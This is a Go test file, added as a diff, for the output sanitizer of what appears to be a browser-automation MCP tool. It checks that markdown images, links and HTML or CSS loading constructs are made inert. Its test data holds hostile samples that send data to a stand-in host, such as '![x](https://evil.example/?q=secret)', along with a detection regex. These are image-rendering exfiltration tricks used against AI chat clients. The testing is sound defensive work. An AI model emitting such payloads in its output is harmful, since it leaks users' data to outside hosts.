@@ -1,0 +1,107 @@
+package output_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/browseract/browseract-mcp/tools/output"
+)
+
+func TestShowMakesInertWhatLoadsOrHidesWhereItLeads(t *testing.T) {
+	t.Parallel()
+	for _, fact := range []struct{ in, want string }{
+		{"![x](https://evil.example/?q=1)", "! [x] (https://evil.example/?q=1)"},
+		{"![a\nb][ref]\n\n[ref]: https://evil.example", "! [a\nb][ref]\n\n[ref]: https://evil.example"},
+		{"![ref]", "! [ref]"},
+		{"[![badge](https://a.example/i.png)](https://b.example)", "[! [badge] (https://a.example/i.png)] (https://b.example)"},
+		{`![a\]b](<https://evil.example/a b> "t")`, `! [a\]b] (<https://evil.example/a b> "t")`},
+		{"!\u200b[x]\u200b(https://evil.example)", "! [x] (https://evil.example)"},
+		{"[text](https://a.example)", "[text] (https://a.example)"},
+		{`<img src="https://evil.example">`, `< img src="https://evil.example">`},
+		{"<IMG\nSRC=//evil.example>", "< IMG\nSRC=//evil.example>"},
+		{"<img/src=x>", "< img/src=x>"},
+		{"<svg onload=x><use href=y></svg>", "< svg onload=x>< use href=y></svg>"},
+		{`<a style="background:url(//evil.example)">`, `<a style="background:url (//evil.example)">`},
+		{"<style>@import 'https://evil.example'</style>", "< style>@import 'https://evil.example'</style>"},
+		{"<script>x</script>", "< script>x</script>"},
+		{"<video poster=x><input type=image src=y>", "< video poster=x>< input type=image src=y>"},
+
+		{"https://shop.example/a?b=[1]", "https://shop.example/a?b=[1]"},
+		{"<https://shop.example>", "<https://shop.example>"},
+		{"see [1] and (2), [ ] (3)", "see [1] and (2), [ ] (3)"},
+		{"<b>bold</b> <imgs> <image> a<b", "<b>bold</b> <imgs> <image> a<b"},
+		{"curl(x) {\"a\":[1],\"b\":[{}]}", "curl(x) {\"a\":[1],\"b\":[{}]}"},
+		{"wow! [sic]", "wow! [sic]"},
+	} {
+		got := output.Show(fact.in)
+		if got != fact.want {
+			t.Errorf("Show(%q) = %q, want %q", fact.in, got, fact.want)
+		}
+		if again := output.Show(got); again != got {
+			t.Errorf("Show(Show(%q)) = %q, want %q", fact.in, again, got)
+		}
+	}
+}
+
+// hostile are texts that would make a client load something, were they shown as they are.
+func hostile() []string {
+	return []string{
+		"![x](https://evil.example/?q=secret)", "![a][b]\n\n[b]: https://evil.example", "[click](https://evil.example)",
+		"<img src=//evil.example>", "!\u200b[x]\u2060(https://evil.example)", "<style>a{b:url(//evil.example)}</style>", "<i\u00admg src=x>",
+	}
+}
+
+var loads = regexp.MustCompile(`!\[|\]\(|<(?:img|style)|\burl\(`)
+
+func TestNothingThatIsShownLoadsAnything(t *testing.T) {
+	t.Parallel()
+	for _, attack := range hostile() {
+		quoted, err := json.Marshal(attack)
+		if err != nil {
+			t.Fatal(err)
+		}
+		escaped := strings.NewReplacer("!", `\u0021`, "[", `\u005b`, "<", `\u003c`).Replace(string(quoted))
+		for name, text := range map[string]string{
+			"values":  fmt.Sprintf(`[{"a":%s,"b":[{"c":%s}]}]`, quoted, escaped),
+			"keys":    fmt.Sprintf(`[{%s:1,"b":{%s:2}}]`, quoted, quoted),
+			"strings": fmt.Sprintf(`[%s,[%s]]`, quoted, escaped),
+			"NDJSON":  fmt.Sprintf("{\"a\":%s}\n{%s:1}", escaped, quoted),
+			"CSV":     fmt.Sprintf("id,\"%s\"\n1,\"%s\"\n", attack, attack),
+			"text":    "Words, and\n" + attack,
+			"broken":  `[{"a":` + attack,
+			"XML":     "<list>\n" + attack + "\n</list>",
+			"long":    fmt.Sprintf(`[{"a":%s}]`, strings.Replace(string(quoted), `"`, `"`+strings.Repeat(attack[:1]+" words ", 9000), 1)),
+		} {
+			d := output.Parse(text)
+			shown := []string{d.Preview(300), strings.Join(d.Columns(), " "), output.Fence(text, "7f3a9c"), output.Line(text, 500)}
+			for _, view := range []output.View{output.ViewRows, output.ViewRaw, output.ViewProfile} {
+				for _, format := range []output.Format{output.FormatJSON, output.FormatCSV, output.FormatMarkdown} {
+					page := mustPage(t, d, output.PageRequest{View: view, Format: format})
+					shown = append(shown, page.Text)
+				}
+			}
+			for _, s := range shown {
+				if found := loads.FindString(s); found != "" {
+					t.Errorf("%s: %q keeps %q: %.300q", name, attack, found, s)
+				}
+			}
+		}
+	}
+}
+
+func TestPageTellsWhatWasMadeInert(t *testing.T) {
+	t.Parallel()
+	const want = "2 images, links or elements that load something were made inert in this page: each has a space that the output has not."
+	d := output.Parse(`[{"a":"![x](https://a.example)"},{"a":"plain"}]`)
+	for _, request := range []output.PageRequest{{Limit: 1}, {Limit: 1, Format: output.FormatMarkdown}, {View: output.ViewRaw}} {
+		if got := mustPage(t, d, request).Warnings; len(got) != 2 || got[1] != want {
+			t.Errorf("%+v: Warnings = %q, want %q last", request, got, want)
+		}
+	}
+	if got := mustPage(t, d, output.PageRequest{Offset: 1}).Warnings; len(got) != 1 {
+		t.Errorf("Warnings = %q, want nothing of what the page does not show", got)
+	}
+}
